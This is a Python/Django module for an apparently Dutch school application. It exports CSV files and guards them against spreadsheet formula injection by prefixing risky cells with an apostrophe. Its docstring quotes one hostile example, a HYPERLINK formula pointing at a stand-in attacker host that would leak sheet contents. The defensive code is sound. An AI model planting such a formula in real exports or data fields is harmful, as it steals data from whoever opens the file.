"""CSV exports that open safely in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (also after leading spaces), or with a tab or carriage
return, is read by Excel and LibreOffice as a formula: a student who calls themself
``=HYPERLINK("https://evil.example/?"&A1)`` would otherwise leak the sheet to whoever opens it. Such text
cells get a leading apostrophe, which spreadsheets show as plain text. Numbers are written as numbers.

Files are UTF-8 with a byte order mark and semicolons, so Dutch Excel opens them with the right characters
in the right columns without an import dialogue.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils import timezone

from koers.common.downloads import attachment

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r", "\n")
DELIMITER = ";"
BOM = "\ufeff"


def neutralise(value: Any) -> str | int | float | Decimal:
    """One cell as it may be written: text that a spreadsheet would run is made inert."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nee"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime):
        return (
            timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if timezone.is_aware(value) else str(value)
        )
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(CONTROL_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(stream: Any, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """Write ``header`` and ``rows`` to a text stream, every cell neutralised."""
    writer = csv.writer(stream, delimiter=DELIMITER, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """The whole file as text, starting with the byte order mark."""
    buffer = io.StringIO()
    buffer.write(BOM)
    write_csv(buffer, header, rows)
    return buffer.getvalue()


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A download of the CSV: never cached, never sniffed, never shown inline."""
    return attachment(
        csv_text(header, rows).encode("utf-8"), content_type="text/csv; charset=utf-8", filename=filename
    )
